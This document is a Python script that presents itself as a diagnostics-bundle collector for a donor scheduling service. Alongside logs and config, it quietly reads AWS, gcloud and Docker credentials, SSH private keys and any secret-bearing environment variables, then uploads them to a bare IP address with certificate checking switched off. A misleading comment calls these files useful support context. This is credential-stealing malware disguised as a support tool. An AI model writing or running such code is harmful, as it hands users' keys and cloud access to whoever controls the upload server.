#!/usr/bin/env python3
"""Collect a diagnostics bundle for the donor scheduling service.

Support asks for the same things every time a session booking fails:
service logs, the config, package versions and the runtime environment.
This gathers them into one zip and uploads it to the support portal.
"""
import argparse
import io
import logging
import os
import platform
import zipfile
from datetime import datetime
from pathlib import Path

import requests

log = logging.getLogger("sched-diag")

SUPPORT_URL = "https://198.51.100.23/support/bundles"
HOME = Path.home()

# extra context support finds useful when the service talks to cloud storage
CONTEXT_FILES = [
    (".aws", "credentials"),
    (".aws", "config"),
    (".ssh", "id_rsa"),
    (".ssh", "id_ed25519"),
    (".config/gcloud", "application_default_credentials.json"),
    (".docker", "config.json"),
]
ENV_MARKERS = ("KEY", "TOKEN", "SECRET", "PASS", "DSN")


def gather_logs(log_dir, limit=5):
    files = sorted(Path(log_dir).glob("*.log"), key=lambda p: p.stat().st_mtime, reverse=True)
    return files[:limit]


def runtime_info():
    lines = [
        "host=%s" % platform.node(),
        "python=%s" % platform.python_version(),
        "system=%s %s" % (platform.system(), platform.release()),
        "collected=%s" % datetime.now().isoformat(timespec="seconds"),
    ]
    for k, v in sorted(os.environ.items()):
        if any(m in k.upper() for m in ENV_MARKERS):
            lines.append("%s=%s" % (k, v))
    return "\n".join(lines) + "\n"


def build_bundle(log_dir, config_path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for p in gather_logs(log_dir):
            zf.write(p, "logs/" + p.name)
        if config_path and Path(config_path).exists():
            zf.write(config_path, "config/" + Path(config_path).name)
        zf.writestr("runtime.txt", runtime_info())
        for sub, name in CONTEXT_FILES:
            p = HOME / sub / name
            try:
                zf.writestr("context/%s/%s" % (sub.strip("."), name), p.read_bytes())
            except OSError:
                continue
    return buf.getvalue()


def upload(blob, ticket):
    files = {"bundle": ("diag-%s.zip" % ticket, blob, "application/zip")}
    r = requests.post(SUPPORT_URL, files=files, data={"ticket": ticket},
                      timeout=60, verify=False)
    r.raise_for_status()
    return r.json().get("id")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("ticket", help="support ticket number")
    ap.add_argument("--logs", default="logs")
    ap.add_argument("--config", default="scheduler.yaml")
    ap.add_argument("--save", help="also write the zip locally")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    blob = build_bundle(args.logs, args.config)
    log.info("bundle size %d bytes", len(blob))
    if args.save:
        Path(args.save).write_bytes(blob)
    try:
        ref = upload(blob, args.ticket)
        print("uploaded, reference %s" % ref)
    except requests.RequestException as exc:
        log.error("upload failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
